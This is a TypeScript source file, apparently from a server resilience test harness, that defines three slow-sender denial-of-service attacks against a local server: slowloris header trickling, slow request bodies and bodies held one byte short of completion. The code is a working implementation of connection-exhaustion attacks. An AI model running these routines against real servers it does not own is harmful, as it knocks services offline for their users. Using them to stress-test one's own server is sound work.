import { longBytes, post } from '../attack/calls.ts'
import { holdConnections } from '../attack/hold-connections.ts'
import type { Family } from '../family.ts'

const slowloris: Family = {
  number: 4,
  name: 'slowloris',
  does: '2,000 connections that send their heads by a byte a second',
  start: ({ path, ...context }) =>
    holdConnections(
      { path, ...context },
      {
        count: 2_000,
        onOpen: (socket) => void socket.write(`POST ${path} HTTP/1.1\r\nHost: localhost\r\nX-Slow: `),
        onSecond: (sockets) => sockets.forEach((socket) => socket.write('a')),
      },
    ),
}

const slowRequestBodies: Family = {
  number: 5,
  name: 'slow request bodies',
  does: '1,000 connections that promise 4.9 MB, send 64 kB at once and then 100 bytes a second',
  start(context) {
    const begin = post(context.path, Buffer.alloc(65_536, 0x20), {}, longBytes)
    const more = Buffer.alloc(100, 0x20)
    return holdConnections(context, {
      count: 1_000,
      onOpen: (socket) => void socket.write(begin),
      onSecond: (sockets) => sockets.forEach((socket) => socket.write(more)),
    })
  },
}

const heldBodies: Family = {
  number: 6,
  name: 'held bodies',
  does: '300 bodies of 4.9 MB, each but for its last byte',
  start(context) {
    const allButOne = post(context.path, Buffer.alloc(longBytes - 1, 0x20), {}, longBytes)
    return holdConnections(context, {
      count: 300,
      perSecond: 60,
      onOpen: (socket) => void socket.write(allButOne),
    })
  },
}

export const slowSenderFamilies: readonly Family[] = [slowloris, slowRequestBodies, heldBodies]
